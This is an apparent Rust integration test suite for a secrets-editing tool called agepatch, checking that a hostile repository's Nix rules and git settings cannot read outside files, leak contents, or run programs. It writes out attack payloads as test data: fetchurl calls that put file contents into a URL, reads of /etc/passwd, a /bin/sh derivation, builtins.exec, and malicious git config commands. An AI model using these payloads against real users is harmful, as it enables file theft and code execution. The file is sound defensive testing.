//! A repository from an attacker: nothing in its files may run programs, read other files, or send anything without
//! consent.

use std::fs;

use predicates::prelude::PredicateBooleanExt;

use crate::support::trap::{FILE, TEXT, Trap};

/// Every command that only reads, on an existing file.
const READING: &[&[&str]] = &[
    &["show", FILE],
    &["show", "authelia-secrets", "identity_providers"],
    &["get", FILE, "identity_providers.oidc.clients[media].client_id"],
    &["log", FILE],
    &["log", "authelia-secrets", "identity_providers.oidc.clients"],
    &["blame", FILE],
    &["diff"],
    &["diff", "HEAD~1"],
    &["diff", "HEAD~1..HEAD"],
    &["diff", "HEAD~1", FILE],
    &["diff", FILE],
    &["diff", "--output", "unified"],
    &["textconv", FILE],
    &["check"],
    &["check", FILE],
    &["client", "list"],
    &["client", "show", "media"],
    &["-d", FILE],
];

#[test]
fn reading_a_file_does_not_evaluate_the_rules() {
    let trap = Trap::new();
    let rules = fs::read_to_string(trap.sandbox.repo().join("secrets.nix")).expect("rules");
    // Nix would be needed; the built-in evaluator would wait for a pipe without a writer.
    let made = std::process::Command::new("mkfifo").arg(trap.sandbox.repo().join("pipe")).status();
    assert!(made.expect("mkfifo").success());
    for attack in [
        "builtins.seq (builtins.fetchurl \"http://127.0.0.1:9/${builtins.readFile ./secrets.nix}\") ",
        "builtins.seq (builtins.readFile ./pipe) ",
    ] {
        trap.sandbox.write("secrets.nix", &rules.replacen("in {", &format!("in {attack} {{"), 1));
        for arguments in READING {
            let ran = trap.agepatch(arguments).assert();
            let output = ran.get_output();
            assert!(matches!(output.status.code(), Some(0 | 1)), "{arguments:?}: {output:?}");
            assert_eq!(trap.sprung(), None, "{arguments:?}");
        }
    }
}

#[test]
fn discovery_without_evaluation_finds_the_files_of_the_rules() {
    let trap = Trap::new();
    let all = String::from_utf8(trap.agepatch(&["check"]).assert().get_output().stdout.clone()).expect("text");
    let one = String::from_utf8(trap.agepatch(&["check", FILE]).assert().get_output().stdout.clone()).expect("text");
    assert_eq!(all, one);
    // A file with another extension, and one in another folder.
    trap.sandbox.write(
        "secrets.nix",
        &fs::read_to_string(trap.sandbox.repo().join("secrets.nix"))
            .expect("rules")
            .replace("authelia-secrets.age", "sub/authelia-secrets"),
    );
    trap.sandbox.git(&["rm", "--quiet", "--cached", FILE]);
    fs::remove_file(trap.sandbox.repo().join(FILE)).expect("removed");
    trap.sandbox.seal("sub/authelia-secrets", TEXT.as_bytes());
    trap.sandbox.git(&["add", "."]);
    trap.agepatch(&["client", "list"]).assert().success().stdout(predicates::str::contains("media"));
    trap.agepatch(&["diff"]).assert().success().stdout(predicates::str::contains("sub/authelia-secrets"));
    let deleted = trap.agepatch(&["log", "authelia-secrets"]).assert().success();
    assert!(!deleted.get_output().stdout.is_empty());
}

/// The rules of the trap, with an expression that is evaluated on the way to the recipients.
fn rules_with(trap: &Trap, expression: &str) {
    let rules = trap.sandbox.git(&["show", "HEAD:secrets.nix"]);
    trap.sandbox.write("secrets.nix", &rules.replacen("in {", &format!("in builtins.seq ({expression}) {{"), 1));
}

/// Files that rules must not read.
fn outside(trap: &Trap) {
    fs::write(trap.sandbox.home().join("outside"), "markeroutside\n").expect("written");
    fs::write(trap.sandbox.home().join("outside.nix"), "\"markeroutside\"\n").expect("written");
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        symlink(trap.sandbox.home().join("outside"), trap.sandbox.repo().join("link")).expect("a link");
        symlink(trap.sandbox.home(), trap.sandbox.repo().join("linked")).expect("a link");
    }
}

#[test]
fn rules_read_below_their_folder_and_the_repository_only() {
    let trap = Trap::new();
    outside(&trap);
    let home = trap.sandbox.home().display().to_string();
    let attacks = [
        "builtins.readFile ../home/outside".to_owned(),
        format!("builtins.readFile \"{home}/outside\""),
        format!("builtins.readFile (/. + \"{home}/outside\")"),
        "builtins.readFile ./link".to_owned(),
        "builtins.readFile ./linked/outside".to_owned(),
        "builtins.readFile ./sub/../../home/outside".to_owned(),
        "import ../home/outside.nix".to_owned(),
        "import ./linked/outside.nix".to_owned(),
        "builtins.readDir ../home".to_owned(),
        "builtins.readDir ./linked".to_owned(),
        "builtins.hashFile \"sha256\" ../home/outside".to_owned(),
        "builtins.readFileType ../home/outside".to_owned(),
        "builtins.readFile ./.git/config".to_owned(),
        "if builtins.pathExists ../home/outside then true else throw \"refused\"".to_owned(),
        "builtins.readFile /etc/passwd".to_owned(),
    ];
    for attack in attacks {
        rules_with(&trap, &attack);
        let refused = trap.agepatch(&["recipients"]).assert().code(6);
        let told = String::from_utf8_lossy(&refused.get_output().stderr).into_owned();
        assert!(told.contains("only below") || told.contains("refused"), "{attack}: {told}");
        assert!(!told.contains("marker"), "{attack}: {told}");
    }
    // Files within the repository may be read: from the rules' folder, and from elsewhere.
    trap.sandbox.write("sub/within", "x");
    rules_with(
        &trap,
        "builtins.readFile ./sub/within + builtins.concatStringsSep \"\" (builtins.attrNames (builtins.readDir ./sub))",
    );
    trap.agepatch(&["recipients"]).assert().success();
    fs::create_dir(trap.sandbox.repo().join("secrets")).expect("a folder");
    let rules = trap.sandbox.git(&["show", "HEAD:secrets.nix"]);
    let rules = rules.replacen("in {", "in builtins.seq (builtins.readFile ../sub/within) {", 1);
    fs::remove_file(trap.sandbox.repo().join("secrets.nix")).expect("removed");
    trap.sandbox.write("secrets/secrets.nix", &rules);
    trap.agepatch(&["recipients"]).assert().success();
}

#[test]
fn errors_in_rules_contain_no_file_content() {
    let trap = Trap::new();
    trap.sandbox.write("plain", "markerplain");
    trap.sandbox.write("key.pub", "ssh-rsa markerplain not a key\n");
    trap.sandbox
        .write("private", "-----BEGIN OPENSSH PRIVATE KEY-----\nmarkerplain\n-----END OPENSSH PRIVATE KEY-----\n");
    let attacks = [
        "throw (builtins.readFile ./plain)",
        "throw \"x${builtins.readFile ./plain}y\"",
        "abort (builtins.readFile ./plain)",
        "{}.${builtins.readFile ./plain}",
        "builtins.getAttr (builtins.readFile ./plain) {}",
        "({ a }: a) { a = 1; ${builtins.readFile ./plain} = 2; }",
        "import ./plain",
        "builtins.fromJSON (builtins.readFile ./plain)",
        "builtins.readFile (./. + \"/${builtins.readFile ./plain}\")",
        "builtins.match \"[${builtins.readFile ./plain}\" \"x\"",
        "builtins.getAttr (builtins.readFile ./plain) builtins",
        "with builtins; builtins.hashString (readFile ./plain) \"x\"",
        "{ ${builtins.readFile ./plain} = 1; ${builtins.readFile ./plain} = 2; }",
        "builtins.fromTOML (builtins.readFile ./plain)",
        "1 + builtins.readFile ./plain",
        "builtins.addErrorContext (builtins.readFile ./plain) (throw \"x\")",
        "builtins.trace (builtins.readFile ./plain) 1",
    ];
    let commands: [&[&str]; 5] =
        [&["recipients"], &["doctor"], &[], &["set", FILE, "theme", "x"], &["rekey", "-n", "--output", "json"]];
    for attack in attacks {
        rules_with(&trap, attack);
        for arguments in commands {
            let ran = trap.agepatch(arguments).assert();
            let output = format!("{:?}", ran.get_output());
            assert!(!output.contains("markerplain"), "{attack}: {arguments:?}: {output}");
        }
    }
    // Texts that are not keys.
    for key in ["./plain", "./key.pub", "./private"] {
        let rules = format!("{{ \"{FILE}\".publicKeys = [ (builtins.readFile {key}) ]; }}\n");
        trap.sandbox.write("secrets.nix", &rules);
        for arguments in commands.iter().chain([&["recipients", "--output", "json"][..], &["-v", "rekey"]].iter()) {
            let ran = trap.agepatch(arguments).assert();
            let output = format!("{:?}", ran.get_output());
            assert!(!output.contains("markerplain"), "{key}: {arguments:?}: {output}");
        }
    }
}

#[test]
fn nix_runs_only_with_consent() {
    let trap = Trap::new();
    rules_with(&trap, "builtins.currentSystem");
    for arguments in [&["recipients"][..], &["doctor"], &["rekey"], &["set", FILE, "theme", "x"]] {
        let refused = trap.agepatch(arguments).assert().code(4);
        refused.stderr(predicates::str::contains("agepatch trust"));
        assert_eq!(trap.sprung(), None, "{arguments:?}");
    }
    trap.agepatch(&["set", "-n", FILE, "theme", "x"]).assert().success();
    assert_eq!(trap.sprung(), None);
    trap.agepatch(&["trust"]).assert().success();
    assert_eq!(trap.sprung(), None);
    trap.agepatch(&["recipients"]).assert().success();
    let trace = trap.sprung().expect("Nix was asked");
    for option in ["restrict-eval true", "allow-import-from-derivation false", "allowed-uris"] {
        assert!(trace.contains(option), "{trace}");
    }
    for arguments in [&["set", "-n", FILE, "theme", "x"][..], &["textconv", FILE], &["show", FILE]] {
        trap.agepatch(arguments).assert().success();
        assert_eq!(trap.sprung(), None, "{arguments:?}");
    }
    // Changed rules need new consent.
    rules_with(&trap, "builtins.currentTime");
    trap.agepatch(&["recipients"]).assert().code(4);
}

#[test_with::executable(nix-instantiate)]
#[test]
fn nix_itself_is_confined() {
    use std::net::TcpListener;
    let trap = Trap::new();
    outside(&trap);
    trap.sandbox.write("plain", "markerplain");
    fs::remove_file(trap.sandbox.home().join("bin/nix-instantiate")).expect("the trap is taken away");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("it can be asked");
    let port = listener.local_addr().expect("an address").port();
    let pwned = trap.sandbox.home().join("pwned");
    let attacks = [
        format!("builtins.fetchurl \"http://127.0.0.1:{port}/${{builtins.readFile ./plain}}\""),
        format!("builtins.fetchTarball \"http://127.0.0.1:{port}/x\""),
        format!("builtins.fetchGit \"http://127.0.0.1:{port}/x\""),
        format!("builtins.fetchTree \"http://127.0.0.1:{port}/x\""),
        "builtins.readFile ../home/outside".to_owned(),
        "throw (builtins.readFile ./plain)".to_owned(),
        "throw \"attribute '${builtins.readFile ./plain}' missing\"".to_owned(),
        "{}.${builtins.readFile ./plain}".to_owned(),
        format!(
            "import (derivation {{ name = \"x\"; system = builtins.currentSystem; builder = \"/bin/sh\"; args = [ \"-c\" \"touch {}\" ]; }})",
            pwned.display()
        ),
        format!("builtins.exec [ \"touch\" \"{}\" ]", pwned.display()),
    ];
    for attack in attacks {
        rules_with(&trap, &format!("builtins.seq builtins.currentSystem ({attack})"));
        trap.agepatch(&["trust"]).assert().success();
        let refused = trap.agepatch(&["recipients"]).assert().code(6);
        let output = format!("{:?}", refused.get_output());
        assert!(!output.contains("marker"), "{attack}: {output}");
        assert!(listener.accept().is_err(), "{attack}");
        assert!(!pwned.exists(), "{attack}");
    }
    rules_with(&trap, "builtins.currentSystem");
    trap.agepatch(&["trust"]).assert().success();
    trap.agepatch(&["recipients"]).assert().success().stdout(predicates::str::contains(FILE));
}

#[test_with::executable(git)]
#[test]
fn git_setup_does_not_write_through_a_link() {
    let trap = Trap::new();
    let outside = trap.sandbox.home().join("outside");
    fs::write(&outside, "theirs\n").expect("written");
    std::os::unix::fs::symlink(&outside, trap.sandbox.repo().join(".gitattributes")).expect("a link");
    for arguments in [&["git", "setup"][..], &["git", "setup", "--undo"]] {
        let refused = trap.agepatch(arguments).assert().code(6);
        refused.stderr(predicates::str::contains("symbolic link"));
        assert_eq!(fs::read_to_string(&outside).expect("there"), "theirs\n");
    }
}

#[test_with::executable(git)]
#[test]
fn concurrent_git_setups_write_each_line_once() {
    let trap = Trap::new();
    std::thread::scope(|scope| {
        for _ in 0..16 {
            scope.spawn(|| trap.agepatch(&["git", "setup"]).assert().success());
        }
    });
    assert_eq!(trap.sandbox.read(".gitattributes"), b"*.age diff=agepatch merge=agepatch\n");
}

/// Patches that read a value from a file: in the home folder, through a path out of the repository, and through a link
/// out of it.
const OUTSIDE: [&str; 3] = ["../home/outside", "sub/../../home/outside", "link"];

#[test_with::executable(git)]
#[test]
fn a_value_from_outside_the_repository_is_named() {
    let trap = Trap::new();
    outside(&trap);
    fs::create_dir(trap.sandbox.repo().join("sub")).expect("a folder");
    for path in OUTSIDE {
        let patch = format!("[{{op: set, path: NEW, value_from: {{file: {path}}}}}]");
        for options in [&["-n"][..], &["--no-check"]] {
            let run = trap.agepatch(&[&["apply", "app-env.age"], options].concat()).write_stdin(&*patch).assert();
            let named = format!("value from {path}, which is outside the repository");
            run.success().stdout(predicates::str::contains(named));
        }
        trap.sandbox.seal("app-env.age", b"SECRET=marker\n");
        let run = trap.agepatch(&["apply", "app-env.age", "-n", "--output", "json"]).write_stdin(&*patch).assert();
        let edit: serde_json::Value = serde_json::from_slice(&run.success().get_output().stdout).expect("JSON");
        assert_eq!(edit["files"][0]["outside"], serde_json::json!([path]));
    }
    trap.sandbox.write("within", "x");
    let run = trap.agepatch(&["apply", "app-env.age", "-n"]);
    let run = { run }.write_stdin("[{op: set, path: NEW, value_from: {file: within}}]").assert().success();
    run.stdout(predicates::str::contains("outside").not());
}

#[test_with::executable(git)]
#[test]
fn a_patch_of_the_repository_takes_no_value_from_outside_without_consent() {
    let trap = Trap::new();
    outside(&trap);
    let sealed = trap.sandbox.read("app-env.age");
    let operation = "{op: set, path: NEW, value_from: {file: ../home/outside}}";
    trap.sandbox.write("patch.yml", &format!("[{operation}]"));
    trap.sandbox.write("set.yml", &format!("agepatch: 1\nfiles:\n  app-env.age: [{operation}]\n"));
    let runs = [&["apply", "app-env.age", "-p", "patch.yml"][..], &["apply", "-p", "set.yml"]];
    // Untracked files are the user's own work.
    trap.agepatch(&[runs[0], &["-n"]].concat()).assert().success();
    trap.sandbox.git(&["add", "patch.yml", "set.yml"]);
    for run in runs {
        for options in [&[][..], &["-n"]] {
            let refused = trap.agepatch(&[run, options].concat()).assert().code(4);
            let says = predicates::str::contains("`value_from`: ../home/outside");
            refused.stderr(says.and(predicates::str::contains("agepatch trust")));
        }
    }
    assert_eq!(trap.sandbox.read("app-env.age"), sealed);
    trap.agepatch(&["trust"]).assert().success();
    for run in runs {
        trap.agepatch(run).assert().success();
    }
    assert!(trap.sandbox.open("app-env.age").contains("NEW=markeroutside"));
}

/// No clone brings a configuration of git, but an archive or a shared folder does.
#[test_with::executable(git)]
#[test]
fn reading_starts_no_program_of_gits_configuration() {
    let trap = Trap::new();
    let ran = trap.sandbox.home().join("ran");
    for key in [
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "core.editor",
        "diff.external",
        "diff.agepatch.command",
        "diff.x.textconv",
        "filter.x.clean",
        "filter.x.smudge",
        "merge.x.driver",
        "gpg.program",
    ] {
        trap.sandbox.git(&["config", key, &format!("touch '{}/{key}'", ran.display())]);
    }
    trap.sandbox.git(&["config", "log.showSignature", "true"]);
    trap.sandbox.write(".gitattributes", "*.age filter=x diff=x merge=x\n");
    fs::create_dir(&ran).expect("a folder");
    let more: [&[&str]; 8] = [
        &[],
        &["status"],
        &["doctor"],
        &["recipients"],
        &["commit", "-n"],
        &["git", "setup", "--check"],
        &["trust", "--list"],
        &["restore", FILE, "--source", "HEAD", "-n"],
    ];
    for arguments in READING.iter().copied().chain(more) {
        trap.agepatch(arguments).output().expect("it runs");
        let names: Vec<_> = fs::read_dir(&ran).expect("a folder").flatten().map(|entry| entry.file_name()).collect();
        assert!(names.is_empty(), "{arguments:?} ran {names:?}");
    }
}
